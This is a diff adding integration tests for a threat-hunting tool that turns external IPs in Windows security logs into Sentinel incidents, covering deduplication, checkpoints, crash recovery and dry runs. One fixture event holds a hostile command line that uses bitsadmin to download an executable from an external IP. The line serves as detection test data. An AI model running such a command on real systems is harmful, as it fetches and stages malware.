@@ -1,0 +1,176 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { LogsQueryClient } from '@azure/monitor-query-logs';
+import { startLogAnalyticsServer } from '../../local/logAnalytics/startLogAnalyticsServer.js';
+import { runHunt, type HuntDependencies } from '../../src/hunt/runHunt.js';
+import type { StateStore } from '../../src/state/stateStore.js';
+import { FIXTURE_EXTERNAL_IPS, FIXTURE_NOW, FIXTURE_WINDOW, fixtureTable, startHuntWorkspace, type HuntWorkspace } from '../support/huntWorkspace.js';
+
+let hw: HuntWorkspace | undefined;
+afterEach(async () => {
+  await hw?.close();
+  hw = undefined;
+});
+
+function resources(w: HuntWorkspace, kind: string): number {
+  return w.workspace.sentinel.store.count(kind as never);
+}
+
+describe('runHunt through the real clients and the local workspace', () => {
+  it('creates one incident with entities for exactly the expected IPs on the first run', async () => {
+    hw = await startHuntWorkspace();
+    const summary = await runHunt(hw.deps(), { trigger: 'cli' });
+
+    expect(summary.window).toMatchObject({ start: '2026-11-20T00:00:00.000Z', end: '2026-11-21T00:00:00.000Z', source: 'scheduled' });
+    expect([...summary.newIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
+    expect(summary.excluded.map((e) => e.ip)).toEqual(['168.63.129.16']);
+    expect(summary.incidents.map((i) => i.action)).toEqual(['created', 'created', 'created', 'created']);
+    expect(summary.checkpoint).toMatchObject({ previous: null, next: '2026-11-21T00:00:00.000Z', advanced: true });
+    expect(resources(hw, 'incident')).toBe(4);
+    expect(resources(hw, 'bookmark')).toBe(4);
+    expect(resources(hw, 'relation')).toBe(4);
+
+    // The incident for 45.9.148.3 carries the IP, both hosts and both accounts as entities.
+    const incident = summary.incidents.find((i) => i.ip === '45.9.148.3')!;
+    const deps = hw.deps();
+    const { config } = deps;
+    const { createSecurityInsightsClient } = await import('../../src/sentinel/index.js');
+    const client = createSecurityInsightsClient(config.sentinel, { ...hw.workspace.dependencyOptions, credential: hw.workspace.dependencyOptions.credential! });
+    const entities = await client.incidents.listEntities(config.sentinel.resourceGroup, config.sentinel.workspaceName, incident.incidentId!);
+    const kinds = (entities.entities ?? []).map((e) => e.kind).sort();
+    expect(kinds).toEqual(['Account', 'Account', 'Host', 'Host', 'Ip']);
+  });
+
+  it('creates nothing on a second run over the same events', async () => {
+    hw = await startHuntWorkspace();
+    const deps = hw.deps();
+    await runHunt(deps, { trigger: 'cli', window: FIXTURE_WINDOW });
+    const writes = hw.workspace.sentinel.requests.filter((r) => r.method === 'PUT').length;
+    const second = await runHunt(deps, { trigger: 'cli', window: FIXTURE_WINDOW });
+    expect(second.newIps).toEqual([]);
+    expect([...second.resightedIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
+    expect(second.incidents.every((i) => i.action === 'unchanged')).toBe(true);
+    expect(hw.workspace.sentinel.requests.filter((r) => r.method === 'PUT').length).toBe(writes);
+    expect(resources(hw, 'incident')).toBe(4);
+  });
+
+  it('comments on the open incident when a known IP shows up on a new host', async () => {
+    hw = await startHuntWorkspace();
+    const deps = hw.deps();
+    await runHunt(deps, { trigger: 'cli', window: FIXTURE_WINDOW });
+    const more = await startLogAnalyticsServer({
+      tables: {
+        SecurityEvent: fixtureTable([
+          {
+            TimeGenerated: '2026-11-20T20:00:00Z',
+            Computer: 'WS9.contoso.com',
+            Account: 'CONTOSO\\mallory',
+            EventID: 4688,
+            Process: 'cmd.exe',
+            CommandLine: 'cmd.exe /c bitsadmin /transfer j http://45.9.148.3/b.exe C:\\Users\\Public\\b.exe',
+          },
+        ]),
+      },
+      now: () => FIXTURE_NOW,
+    });
+    try {
+      const logs = new LogsQueryClient(hw.workspace.dependencyOptions.credential!, {
+        endpoint: more.endpoint,
+        credentials: { scopes: ['https://api.loganalytics.io/.default'] },
+        httpClient: hw.workspace.dependencyOptions.httpClient!,
+      });
+      const summary = await runHunt({ ...deps, logs }, { trigger: 'cli', window: FIXTURE_WINDOW });
+      const updated = summary.incidents.find((i) => i.ip === '45.9.148.3');
+      expect(updated).toMatchObject({ action: 'updated' });
+      expect(summary.incidents.filter((i) => i.action === 'updated')).toHaveLength(1);
+      const comments = hw.workspace.sentinel.store.all('comment');
+      expect(comments).toHaveLength(1);
+      expect(JSON.stringify(comments[0])).toContain('WS9.contoso.com');
+      expect(JSON.stringify(comments[0])).not.toContain('WS1.contoso.com');
+      expect(resources(hw, 'incident')).toBe(4);
+    } finally {
+      await more.close();
+    }
+  });
+
+  it('keeps the checkpoint when the query returns a partial failure', async () => {
+    hw = await startHuntWorkspace();
+    hw.workspace.logAnalytics.faults.next({ kind: 'partial', message: 'a shard timed out' });
+    const deps = hw.deps();
+    const summary = await runHunt(deps, { trigger: 'timer' });
+    expect(summary.checkpoint.advanced).toBe(false);
+    expect(summary.checkpoint.note).toMatch(/partial/);
+    expect(summary.failures.some((f) => f.stage === 'query')).toBe(true);
+    expect(await deps.state.getCheckpoint()).toBeUndefined();
+    const retry = await runHunt(deps, { trigger: 'timer' });
+    expect(retry.checkpoint.advanced).toBe(true);
+    expect(retry.window.start).toBe(summary.window.start);
+  });
+
+  it('splits a result too large for the service and still finds every IP', async () => {
+    hw = await startHuntWorkspace({ logAnalytics: { maxResultRows: 2 } });
+    const summary = await runHunt(hw.deps(), { trigger: 'timer' });
+    expect(summary.query.segments.length).toBeGreaterThan(2);
+    expect(summary.query.segments.every((s) => s.rows <= 2)).toBe(true);
+    expect(summary.query.partialFailures).toEqual([]);
+    expect([...summary.newIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
+    expect(summary.checkpoint.advanced).toBe(true);
+  });
+
+  it('neither duplicates nor loses an incident when the run crashes between publishing and recording state', async () => {
+    hw = await startHuntWorkspace();
+    const deps = hw.deps();
+    let crashes = 1;
+    const crashing: StateStore = Object.assign(Object.create(Object.getPrototypeOf(deps.state)), deps.state, {
+      putSeen: async (...args: Parameters<StateStore['putSeen']>) => {
+        if (crashes-- > 0) throw new Error('injected crash before the state write');
+        return deps.state.putSeen(...args);
+      },
+    });
+    const crashingDeps: HuntDependencies = { ...deps, state: crashing };
+    await expect(runHunt(crashingDeps, { trigger: 'timer' })).rejects.toThrow(/injected crash/);
+    expect(resources(hw, 'incident')).toBe(4);
+    expect(await deps.state.getCheckpoint()).toBeUndefined();
+
+    const rerun = await runHunt(crashingDeps, { trigger: 'timer' });
+    expect([...rerun.newIps].sort()).toEqual(FIXTURE_EXTERNAL_IPS);
+    expect(resources(hw, 'incident')).toBe(4);
+    expect(resources(hw, 'bookmark')).toBe(4);
+    expect(resources(hw, 'relation')).toBe(4);
+    expect(rerun.checkpoint.advanced).toBe(true);
+    const third = await runHunt(crashingDeps, { trigger: 'cli', window: FIXTURE_WINDOW });
+    expect(third.newIps).toEqual([]);
+  });
+
+  it('carries failed and over-the-cap IPs to the next run even though the checkpoint moves', async () => {
+    hw = await startHuntWorkspace();
+    const deps = hw.deps({ PUBLISH_MAX_INCIDENTS_PER_RUN: '2' });
+    const first = await runHunt(deps, { trigger: 'timer' });
+    expect(first.deferredIps).toHaveLength(2);
+    expect(first.checkpoint.advanced).toBe(true);
+    const second = await runHunt(hw.deps({ PUBLISH_MAX_INCIDENTS_PER_RUN: '2' }, new Date(FIXTURE_NOW.getTime() + 3_600_000)), { trigger: 'timer' });
+    expect([...second.carriedOverIps].sort()).toEqual([...first.deferredIps].sort());
+    expect(second.incidents.filter((i) => i.action === 'created').map((i) => i.ip).sort()).toEqual([...first.deferredIps].sort());
+    expect(resources(hw, 'incident')).toBe(4);
+    expect(await deps.state.getPending()).toEqual([]);
+  });
+
+  it('publishes nothing and changes no state in a dry run, yet returns the payloads', async () => {
+    hw = await startHuntWorkspace();
+    const deps = hw.deps();
+    const summary = await runHunt(deps, { trigger: 'cli', dryRun: true });
+    expect(summary.dryRun).toBe(true);
+    expect(summary.newIps).toHaveLength(4);
+    expect(summary.payloads).toHaveLength(4);
+    expect(JSON.stringify(summary.payloads)).toContain('entityMappings');
+    expect(hw.workspace.sentinel.requests.filter((r) => r.method === 'PUT')).toHaveLength(0);
+    expect(await deps.state.getCheckpoint()).toBeUndefined();
+  });
+
+  it('sends the seed query verbatim in seed mode and still re-extracts the addresses', async () => {
+    hw = await startHuntWorkspace();
+    const summary = await runHunt(hw.deps({ HUNT_QUERY: 'seed' }), { trigger: 'cli', window: FIXTURE_WINDOW, dryRun: true });
+    // The seed's own defects (URLs and UNC paths dropped, cmd/powershell only) limit what reaches the core.
+    expect(summary.queryMode).toBe('seed');
+    expect(summary.newIps.length).toBeLessThan(FIXTURE_EXTERNAL_IPS.length);
+  });
+});
